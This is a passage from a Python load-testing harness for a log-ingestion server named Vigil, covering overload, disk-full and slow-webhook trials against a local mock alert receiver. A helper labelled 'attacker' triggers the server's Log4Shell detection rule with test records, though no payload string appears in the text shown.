                    elif receiver.mode == "hang":
                        # Until Vigil gives up on the request (closes the connection).
                        while not receiver.closing.wait(0.2):
                            ready, _, _ = select.select([self.connection], [], [], 0)
                            if ready and not self.connection.recv(1, socket.MSG_PEEK):
                                break
                        self.close_connection = True
                        return
                    try:
                        doc = json.loads(body)
                        keys = {
                            a.get("fingerprint") or json.dumps(a.get("labels"), sort_keys=True)
                            for a in doc.get("alerts", [])
                        }
                    except ValueError:
                        keys = set()
                    self.send_response(200)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    with receiver.lock:
                        receiver.answered += 1
                        receiver.alerts |= keys
                except OSError:
                    pass  # Vigil gave up on the request (its timeout)
                finally:
                    with receiver.lock:
                        receiver.in_flight -= 1

            def log_message(self, *a) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/alerts"

    def close(self) -> None:
        self.closing.set()
        self.server.shutdown()
        self.server.server_close()


def attacker(addr, run: str, stop: threading.Event, every: float, tally: Tally, services: list[str]) -> None:
    """Every `every` seconds, a 16-record request from a new service whose first record
    carries a Log4Shell lookup: each raises a new alert (rule web_log4shell, per service)."""
    k = 0
    while not stop.wait(every):
        k += 1
        service = f"{run}-attacked-{k:04d}"
        req = f"{run}-atk-q{k:06d}"
        body = body_template(run, 16, service=service, attack=True).replace(PLACEHOLDER, req.encode())
        tally.sent[req] = 16
        conn = http.client.HTTPConnection(*addr, timeout=60)
        try:
            conn.request("POST", "/v1/logs", body=body, headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            tally.status[str(resp.status)] += 1
            if resp.status == 200:
                tally.acked[req] = 16
                services.append(service)
        except (OSError, http.client.HTTPException) as e:
            tally.errors[type(e).__name__] += 1
        finally:
            conn.close()


def webhook_round(args: argparse.Namespace, vigil: str, work: str, mode: str, number: int) -> dict:
    run = f"w{number:02d}{mode[0]}"
    tdir = fresh_dir(work, f"webhook-{number:02d}-{mode}")
    receiver = Receiver(mode, args.webhook_delay)
    server = None
    try:
        config = os.path.join(tdir, "vigil.toml")
        with open(config, "w", encoding="utf-8") as f:
            f.write(config_text(os.path.join(tdir, "data"), sink_url=receiver.url))
        server = ct.start_server(vigil, config, tdir, run, args.start_timeout)
        stop = threading.Event()
        atk = Tally()
        services: list[str] = []
        start = time.monotonic()
        threads, tallies = run_threads(server.http, run, "c", args.webhook_senders, stop,
                                       records=args.records, refused_wait=0.1)
        at = threading.Thread(target=attacker, args=(server.http, run, stop, args.alert_interval, atk, services),
                              daemon=True)
        at.start()
        time.sleep(args.round_duration)
        stop.set()
        for t in threads + [at]:
            t.join()
        elapsed = time.monotonic() - start
        load = merged(tallies)
        at_end = scrape(server)
        # Alerts raised during the load, and what became of them.
        deadline = time.monotonic() + (args.drain_timeout if mode != "hang" else 15)
        while time.monotonic() < deadline:
            m = scrape(server)
            fired = sum(v for k, v in m.items() if k.startswith("vigil_alerts_total"))
            if mode != "hang" and len(receiver.alerts) >= fired and m.get('vigil_webhook_outbox_messages{sink="trial"}', 1) == 0:
                break
            time.sleep(1)
        drained_s = time.monotonic() - start - elapsed
        m = scrape(server)
        fired = int(sum(v for k, v in m.items() if k.startswith("vigil_alerts_total")))
        total = merged([load, atk])
        v = verify(server, run, total)
        row = {
            "round": number,
            "receiver": mode,
            "duration_s": round(elapsed, 1),
            "acked_records_per_s": round(sum(load.acked.values()) / elapsed),
            "p50_ack_ms": round(percentile(load.latencies, 50) * 1000, 1),
            "p99_ack_ms": round(percentile(load.latencies, 99) * 1000, 1),
            "status": dict(load.status),
            "connection_errors": dict(load.errors),
            "alert_requests_acked": len(atk.acked),
            "alerts_fired": fired,
            "alerts_at_end_of_load": int(sum(v for k, v in at_end.items() if k.startswith("vigil_alerts_total"))),
            "alerts_received": len(receiver.alerts),
            "receiver_requests": receiver.requests,
            "receiver_answered": receiver.answered,
            "receiver_max_concurrent": receiver.max_in_flight,  # requests Vigil had open at once
            "waited_after_load_s": round(drained_s, 1),
            "outbox_at_end_of_load": at_end.get('vigil_webhook_outbox_messages{sink="trial"}'),
            "outbox_after_wait": m.get('vigil_webhook_outbox_messages{sink="trial"}'),
            "deliveries": {k.split("outcome=")[1].split('"')[1]: v
                           for k, v in pick(m, "vigil_webhook_deliveries_total").items()},
            "dead_letters": sum(pick(m, "vigil_webhook_dead_letters_total").values()),
            "detector_skipped_batches": sum(pick(m, "vigil_detector_skipped_batches_total").values()),
            "verify": v,
        }
        row["log"] = log_findings(server)
        row["sigterm_exit_code"] = ct.stop_term(server)
        log(f"slow-webhook round {number} ({mode}): {row['acked_records_per_s']} records/s acked, "
            f"p99 {row['p99_ack_ms']} ms, alerts fired {fired}, received {row['alerts_received']}, "
            f"outbox {row['outbox_after_wait']}")
        return row
    finally:
        kill(server)
        receiver.close()


def webhook_trial(args: argparse.Namespace, vigil: str, work: str) -> dict:
    rows = []
    modes = ["fast", "slow", "hang"]
    number = 0
    for r in range(args.rounds):
        order = modes if r % 2 == 0 else list(reversed(modes))
        for mode in order:
            number += 1
            rows.append(webhook_round(args, vigil, work, mode, number))

    def med(mode: str, key: str) -> float:
        return statistics.median([r[key] for r in rows if r["receiver"] == mode])

    fast = med("fast", "acked_records_per_s")
    summary = {
        mode: {
            "acked_records_per_s": med(mode, "acked_records_per_s"),
            "p99_ack_ms": med(mode, "p99_ack_ms"),
            "throughput_vs_fast": round(med(mode, "acked_records_per_s") / fast, 3) if fast else 0,
            "p99_vs_fast": round(med(mode, "p99_ack_ms") / med("fast", "p99_ack_ms"), 3)
            if med("fast", "p99_ack_ms") else 0,
        }
        for mode in modes
    }
    slow_rows = [r for r in rows if r["receiver"] == "slow"]
    hang_rows = [r for r in rows if r["receiver"] == "hang"]
    checks = {
        "slow receiver: throughput >= 0.8 x fast": summary["slow"]["throughput_vs_fast"] >= 0.8,
        "hung receiver: throughput >= 0.8 x fast": summary["hang"]["throughput_vs_fast"] >= 0.8,
        "alerts fired in every round": all(r["alerts_fired"] > 0 for r in rows),
        "every alert reached the slow receiver": all(
            r["alerts_received"] >= r["alerts_fired"] and r["outbox_after_wait"] == 0 for r in slow_rows
        ),
        "hung receiver: notifications kept in the outbox": all(
            (r["outbox_after_wait"] or 0) > 0 and r["dead_letters"] == 0 for r in hang_rows
        ),
        "nothing acknowledged lost or duplicated": all(verified_ok(r["verify"]) for r in rows),
        "no panics, clean shutdowns": all(r["log"]["panics"] == 0 and r["sigterm_exit_code"] == 0 for r in rows),
    }
    return {"trial": "slow-webhook", "rounds": rows, "summary": summary, "checks": checks,
            "pass": all(checks.values())}


# ---------------------------------------------------------------------------------------------
# Report


def print_report(results: list[dict]) -> None:
    for r in results:
        print(f"== {r['trial']}: {'PASS' if r.get('pass') else ('COULD NOT RUN' if r.get('could_not_run') else 'FAIL')}")
        if r.get("could_not_run"):
            print(f"   {r['could_not_run']}")
            continue
        if r["trial"] == "overload":
            c, o = r["capacity"], r["overload"]
            print(f"   capacity            {c['acked_records_per_s']} records/s acked, {c['senders']} closed-loop senders, "
                  f"p99 {c['p99_ack_ms']} ms")
            print(f"   offered             {o['offered_records_per_s']} records/s (target {o['target_records_per_s']}, "
                  f"{o['senders']} paced senders, {o['duration_s']} s, missed slots {o['missed_slots']})")
            print(f"   acked               {o['acked_records_per_s']} records/s ({o['acked_vs_capacity']}x capacity; "
                  f"10 s windows min/median/max {o['acked_records_per_s_10s_windows']})")
            print(f"   ack latency         p50 {o['p50_ack_ms']} ms, p99 {o['p99_ack_ms']} ms, max {o['max_ack_ms']} ms")
            print(f"   answers             {o['status']}; connection errors {o['connection_errors']}")
            print(f"   server refusals     {o['server_rejected_requests']}")
            print(f"   RSS                 idle {o['rss_idle_mib']} MiB, peak {o['rss_peak_mib']} MiB (VmHWM {o['rss_hwm_mib']}), "
                  f"steady median {o['rss_steady_median_mib']} MiB, first/last third peak "
                  f"{o['rss_peak_first_third_mib']}/{o['rss_peak_last_third_mib']} MiB; bound {o['memory_bound_mib']} MiB")
        elif r["trial"] == "disk-full":
            f_, rec = r.get("full", {}), r.get("recovery", {})
            print(f"   filesystem          {r.get('filesystem')}, {r.get('free_at_start_mib')} MiB free at start")
            print(f"   full after          {f_.get('seconds_to_full')} s; refusals before full {f_.get('refusals_before_full')}")
            print(f"   while full          answers {f_.get('answers_while_full')}, /healthz {f_.get('healthz_while_full')}, "
                  f"/readyz {f_.get('readyz_while_full')}")
            print(f"   space returned      first ack after {rec.get('first_ack_after_space_returned_s')} s, /readyz 200 after "
                  f"{rec.get('readyz_200_after_s')} s, then {rec.get('acked_records_per_s_after')} records/s")
        elif r["trial"] == "slow-webhook":
            for row in r["rounds"]:
                print(f"   round {row['round']} {row['receiver']:5} {row['acked_records_per_s']:>7} records/s, p50/p99 "
                      f"{row['p50_ack_ms']}/{row['p99_ack_ms']} ms, alert requests acked {row['alert_requests_acked']}, "
                      f"alerts fired {row['alerts_fired']}, received {row['alerts_received']}, "
                      f"outbox {row['outbox_at_end_of_load']} -> {row['outbox_after_wait']} after "
                      f"{row['waited_after_load_s']} s, deliveries {row['deliveries']}, "
                      f"at most {row['receiver_max_concurrent']} requests open at the receiver")
            for mode, s in r["summary"].items():
                print(f"   {mode:5} median    {s['acked_records_per_s']} records/s ({s['throughput_vs_fast']}x fast), "
                      f"p99 {s['p99_ack_ms']} ms ({s['p99_vs_fast']}x)")
        for name in ("verify",):
            v = r.get(name)
            if isinstance(v, dict) and "records_acked" in v:
                v = {"": v}
            for k, vv in (v or {}).items():
                if isinstance(vv, dict):
                    print(f"   stored {k or 'records':12} acked {vv['records_acked']}, stored {vv['records_stored']}, "
                          f"lost {vv['records_lost']}, duplicated {vv['records_duplicated']}, "
                          f"stored unacked {vv['records_stored_unacked']}")
        if r.get("verify_after_restart"):
            vv = r["verify_after_restart"]
            print(f"   after restart       stored {vv['records_stored']}, lost {vv['records_lost']}, "
                  f"duplicated {vv['records_duplicated']}")
        lg = r.get("log") or {}
        if lg.get("error_lines"):
            print(f"   server log          {lg['error_lines']} error lines, {lg['panics']} panics, e.g.:")
            for line in lg["examples"][:6]:
                print(f"      {line}")
        for name, ok in (r.get("checks") or {}).items():
            print(f"   [{'ok' if ok else 'FAIL'}] {name}")
        print()


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("trials", nargs="*", metavar="TRIAL",
                   help="overload, disk-full, slow-webhook (default: all three, in this order)")
    p.add_argument("--vigil", help="vigil binary (default: cargo build --release, then target/release/vigil)")
    p.add_argument("--work-dir", help="keep configs, logs and data here (default: a temporary directory)")
    p.add_argument("--json", action="store_true", help="print the results as JSON")
    p.add_argument("--start-timeout", type=float, default=300.0)
    p.add_argument("--records", type=int, default=512, help="records per request")
    g = p.add_argument_group("overload")
    g.add_argument("--duration", type=float, default=300.0, help="seconds of overload")
    g.add_argument("--factor", type=float, default=3.0, help="offered load / measured capacity")
    g.add_argument("--capacity-duration", type=float, default=20.0)
    g.add_argument("--capacity-senders", type=int, default=16)
    g.add_argument("--processes", type=int, default=4, help="sender processes")
    g.add_argument("--threads", type=int, default=48, help="paced senders per process")
    g.add_argument("--max-in-flight", type=int, default=64, help="ingest.max_in_flight_requests")
    g.add_argument("--max-body-bytes", type=int, default=MIB, help="ingest.max_body_bytes")
    g = p.add_argument_group("disk-full")
    g.add_argument("--disk-size", type=int, default=64, help="MiB")
    g.add_argument("--ballast", type=int, default=40, help="MiB written before the server starts")
    g.add_argument("--disk-senders", type=int, default=8)
    g.add_argument("--full-hold", type=float, default=10.0, help="seconds of refusals before space returns")
    g.add_argument("--recovered-hold", type=float, default=5.0, help="seconds of load after the first ack")
    g.add_argument("--fill-timeout", type=float, default=300.0)
    g.add_argument("--recover-timeout", type=float, default=120.0)
    g = p.add_argument_group("slow-webhook")
    g.add_argument("--rounds", type=int, default=2, help="rounds of fast, slow and hung receivers")
    g.add_argument("--round-duration", type=float, default=30.0)
    g.add_argument("--webhook-senders", type=int, default=8)
    g.add_argument("--webhook-delay", type=float, default=5.0, help="seconds the slow receiver takes")
    g.add_argument("--alert-interval", type=float, default=0.5, help="seconds between alert-raising requests")
    g.add_argument("--drain-timeout", type=float, default=300.0, help="seconds to wait for delivery after the load")
    args = p.parse_args()
    trials = args.trials or ["overload", "disk-full", "slow-webhook"]
    for t in trials:
        if t not in ("overload", "disk-full", "slow-webhook"):
            p.error(f"unknown trial {t!r}")
    if not (0 < args.records <= 999):
        p.error("--records must be 1..999")

    work = args.work_dir or tempfile.mkdtemp(prefix="vigil-overload-trials-")
    os.makedirs(work, exist_ok=True)
    results: list[dict] = []
    try:
        vigil = find_vigil(args)
    except CouldNotRun as e:
        log(f"could not run: {e}")
        return 2
    started = time.time()
    for name in trials:
        fn = {"overload": overload_trial, "disk-full": disk_trial, "slow-webhook": webhook_trial}[name]
        log(f"== {name}")
        try:
            results.append(fn(args, vigil, work))
        except (TrialError, CouldNotRun) as e:
            log(f"{name}: could not run: {e}")
            results.append({"trial": name, "could_not_run": str(e), "pass": False})
    meta = {
        "vigil": vigil,
        "started": time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(started)),
        "minutes": round((time.time() - started) / 60, 1),
        "nproc": os.cpu_count(),
        "loadavg_at_end": os.getloadavg(),
        "args": {k: v for k, v in vars(args).items() if k not in ("json",)},
    }
    if args.json:
        print(json.dumps({"meta": meta, "results": results}, indent=2, default=str))
    else:
        print_report(results)
        print(f"vigil {vigil}, {meta['nproc']} CPUs, load average at the end {meta['loadavg_at_end']}, "
              f"{meta['minutes']} min")
    failed = any(not r.get("pass") and not r.get("could_not_run") for r in results)
    could_not = any(r.get("could_not_run") for r in results)
    if not args.work_dir and not failed and not could_not:
        shutil.rmtree(work, ignore_errors=True)
    else:
        log(f"work directory kept: {work}")
    return 1 if failed else (2 if could_not else 0)


if __name__ == "__main__":
    sys.exit(main())
